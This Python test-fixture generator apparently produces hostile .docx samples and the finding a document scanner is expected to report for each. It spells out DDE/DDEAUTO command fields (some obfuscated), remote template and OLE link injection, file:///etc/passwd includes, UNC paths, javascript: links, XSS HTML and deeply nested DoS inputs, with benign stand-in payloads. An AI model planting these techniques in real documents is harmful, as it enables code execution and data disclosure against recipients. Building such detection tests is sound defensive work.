"""Word documents with content that acts, or that lies outside of them."""

import hostile_docx
from hostile_docx import element, field, paragraph, relationships
from hostile_zip import docx

FAR = "http://127.0.0.1:9/far"
WORD = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
MICROSOFT = "http://schemas.microsoft.com/office/2006/relationships/"
EXTERNAL = "External"
RUNNING = {"script", "spaced", "vb", "data"}


# How a text uses a relationship; others are used by the document as a whole.
USES = {
    "subDocument": '<w:subDoc r:id="x"/>',
    "image": f'<w:p>{hostile_docx.picture("x").replace("r:embed", "r:link")}</w:p>',
    "oleObject": '<w:p><w:r><w:object><o:OLEObject Type="Link" ProgID="X" r:id="x"/></w:object></w:r></w:p>',
}


def fields():
    for kind, rest, finding in [
            ("DDE", " cmd &quot;/c calc&quot; &quot;x&quot;", "activeContent"),
            ("DDEAUTO", r" c:\\windows\\cmd.exe &quot;/c calc&quot;", "activeContent"),
            ("MACROBUTTON", " Run press", "activeContent"),
            ("LINK", r" Excel.Sheet.8 \\\\host\\share\\a.xls a", "externalContent"),
            ("INCLUDETEXT", " file:///etc/passwd", "externalContent"),
            ("INCLUDEPICTURE", f" {FAR}.png", "externalContent"),
            ("IMPORT", r" \\\\host\\share\\a.png", "externalContent"),
            ("RD", " c:\\\\a.docx", "externalContent")]:
        yield f"field-{kind.lower()}.docx", f"a field {kind}", finding, docx(field(kind + rest))
        letters = list(kind) + [rest]
        yield f"field-{kind.lower()}-split.docx", f"a field {kind}, a run a letter", finding, docx(field(letters))
    nested = '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDE</w:instrText></w:r>' \
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>QUOTE 65 85 84 79</w:instrText></w:r>' \
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>AUTO</w:t></w:r>' \
        '<w:r><w:fldChar w:fldCharType="end"/></w:r><w:r><w:instrText> cmd x</w:instrText></w:r>' \
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>a</w:t></w:r>' \
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    yield "field-nested.docx", "a field DDEAUTO whose name is made by a field", "activeContent", docx(nested)
    simple = '<w:p><w:fldSimple w:instr=" DDEAUTO cmd x "><w:r><w:t>a</w:t></w:r></w:fldSimple></w:p>'
    yield "field-simple.docx", "a simple field DDEAUTO", "activeContent", docx(simple)


def outside():
    template = relationships([("t", "attachedTemplate", FAR + ".dotm", EXTERNAL)])
    yield "outside-template.docx", "a template of the network", "externalContent", docx(
        paragraph("a"), settings='<w:attachedTemplate r:id="t"/>', files={"word/_rels/settings.xml.rels": template})
    for title, target in [("file", "file:///etc/passwd"), ("unc", r"\\host\share\a"), ("network", FAR)]:
        for kind in ["frame", "subDocument", "header", "image", "aFChunk", "oleObject"]:
            yield f"outside-{kind}-{title}.docx", f"a relationship {kind} to {target}", "externalContent", docx(
                USES.get(kind, paragraph("a")), links=[("x", kind, target, EXTERNAL)])
    image = hostile_docx.picture("x").replace("r:embed", "r:link")
    yield "outside-picture.docx", "a linked picture", "externalContent", \
        docx(f"<w:p>{image}</w:p>", links=[("x", "image", FAR + ".png", EXTERNAL)])
    yield "outside-vml.docx", "a linked picture in VML", "externalContent", docx(
        '<w:p><w:r><w:pict><v:shape><v:imagedata r:id="x"/></v:shape></w:pict></w:r></w:p>',
        links=[("x", "image", r"\\host\share\a.png", EXTERNAL)])
    ole = '<w:p><w:r><w:object><o:OLEObject Type="Link" ProgID="htmlfile" r:id="x" UpdateMode="Always"/></w:object></w:r></w:p>'
    yield "outside-ole.docx", "a linked object that updates itself", "externalContent", \
        docx(ole, links=[("x", "oleObject", "mhtml:" + FAR + "!x-usc:" + FAR, EXTERNAL)])
    merge = '<w:mailMerge><w:dataSource r:id="m"/></w:mailMerge>'
    source = relationships([("m", "mailMergeSource", "file:///etc/passwd", EXTERNAL)])
    yield "outside-merge.docx", "a source of letters outside", "externalContent", docx(
        paragraph("a"), settings=merge, files={"word/_rels/settings.xml.rels": source})
    frames = relationships([("f", "frame", FAR, EXTERNAL)])
    yield "outside-frameset.docx", "frames in the web settings", "externalContent", docx(
        paragraph("a"), links=[("w", "webSettings", "webSettings.xml")], files={
            "word/webSettings.xml": element("webSettings", '<w:frameset><w:frame><w:sourceFileName r:id="f"/></w:frame></w:frameset>'),
            "word/_rels/webSettings.xml.rels": frames})
    styles = relationships([("s", "image", FAR, EXTERNAL)])
    yield "outside-numbering.docx", "a picture outside in the numbering", "externalContent", docx(
        paragraph("a"), numbering="", files={"word/_rels/numbering.xml.rels": styles})


def programs():
    yield "program-vba.docx", "macros", "activeContent", docx(
        paragraph("a"), links=[("v", MICROSOFT + "vbaProject", "vbaProject.bin")], files={"word/vbaProject.bin": b"macro"})
    types = '<Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'
    yield "program-docm.docm", "a document that can have macros", "activeContent", docx(paragraph("a"), types=types)
    for year, kind in [("2006", "extensibility"), ("2007", "extensibility")]:
        yield f"program-ribbon-{year}.docx", f"a changed ribbon ({year})", "activeContent", docx(
            paragraph("a"), files={"customUI/customUI.xml": '<customUI onLoad="Run"/>'},
            package=[("u", f"http://schemas.microsoft.com/office/{year}/relationships/ui/{kind}", "customUI/customUI.xml")])
    yield "program-keys.docx", "keys that call macros", "activeContent", docx(
        paragraph("a"), links=[("k", MICROSOFT + "keyMapCustomizations", "customizations.xml")],
        files={"word/customizations.xml": "<tcg/>"})
    control = '<w:p><w:r><w:control r:id="x" w:name="Button"/></w:r></w:p>'
    yield "program-activex.docx", "a control of ActiveX", "activeContent", docx(
        control, links=[("x", "control", "activeX/activeX1.xml")],
        files={"word/activeX/activeX1.xml": '<ocx classid="{D27CDB6E-AE6D-11CF-96B8-444553540000}"/>'})
    package = '<w:p><w:r><w:object><o:OLEObject Type="Embed" ProgID="{}" r:id="x"/></w:object></w:r></w:p>'
    for title, program in [("package", "Package"), ("word", "Word.Document.12"), ("equation", "Equation.3")]:
        yield f"program-{title}.docx", f"an embedded object of {program}", "embeddedObject", docx(
            package.format(program), links=[("x", "package" if title == "word" else "oleObject", "embeddings/o.bin")],
            files={"word/embeddings/o.bin": b"MZ" + bytes(100)})
    action = '<w:hyperlink r:id="x"><w:r><w:t>a</w:t></w:r></w:hyperlink>'
    for title, target in [("script", "javascript:alert(1)"), ("spaced", "java&#9;script:alert(1)"), ("vb", "vbscript:run"),
                          ("data", "data:text/html,&lt;script>alert(1)&lt;/script>"), ("file", "file:///etc/passwd"),
                          ("unc", r"\\host\share\a.exe"), ("office", "ms-word:ofe|u|" + FAR), ("search", "search-ms:query=a")]:
        yield f"link-{title}.docx", f"a link to {target}", "activeContent" if title in RUNNING else None, docx(
            f"<w:p>{action}</w:p>", links=[("x", "hyperlink", target, EXTERNAL)])
    page = "<p onclick=alert(1)>a<script>alert(1)</script><img src=x onerror=alert(1)><iframe src=x></iframe>"
    yield "chunk-html.docx", "a chunk of HTML with scripts", "activeContent", docx(
        hostile_docx.chunk("c"), links=[("c", "aFChunk", "c.html")], files={"word/c.html": page})
    yield "chunk-html-deep.docx", "a chunk of HTML, 10^6 elements deep", "unsupportedContent", docx(
        hostile_docx.chunk("c"), links=[("c", "aFChunk", "c.html")], files={"word/c.html": "<div>" * 1_000_000})
    rtf = r"{\rtf1{\object\objautlink\objupdate{\*\objclass Package}{\*\objdata 00}}{\*\template http://a.example/t.dot}a}"
    yield "chunk-rtf.docx", "a chunk of RTF with an object", "activeContent", docx(
        hostile_docx.chunk("c"), links=[("c", "aFChunk", "c.rtf")], files={"word/c.rtf": rtf})
    yield "chunk-rtf-deep.docx", "a chunk of RTF, 10^6 groups deep", "unsupportedContent", docx(
        hostile_docx.chunk("c"), links=[("c", "aFChunk", "c.rtf")], files={"word/c.rtf": "{\\rtf1 " + "{" * 1_000_000})
    hidden = '<w:p><w:r><w:rPr><w:vanish/></w:rPr><w:t>hidden</w:t></w:r><w:r><w:t>shown</w:t></w:r></w:p>'
    yield "hidden.docx", "hidden text", "hiddenText", docx(hidden)
    alias = '<w:p><w:r><w:rPr><w:color w:val="FFFFFF"/><w:sz w:val="1"/></w:rPr><w:t>white</w:t></w:r></w:p>'
    yield "hidden-white.docx", "white letters of half a point", None, docx(alias)


def cases():
    for group in (fields, outside, programs):
        for name, attack, finding, data in group():
            yield name, attack, f"finding {finding}" if finding else "report", data
